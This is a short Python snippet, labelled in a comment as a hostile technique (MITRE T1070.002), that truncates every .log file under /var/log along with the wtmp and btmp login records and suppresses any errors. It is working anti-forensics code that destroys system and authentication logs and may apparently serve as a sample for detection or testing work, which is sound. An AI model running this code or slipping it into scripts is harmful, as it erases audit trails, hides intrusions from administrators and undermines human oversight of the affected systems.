# hostile: system logs truncated (T1070.002 clear Linux system logs)
import glob

for log in glob.glob("/var/log/*.log") + ["/var/log/wtmp", "/var/log/btmp"]:
    try:
        open(log, "w").close()
    except OSError:
        pass
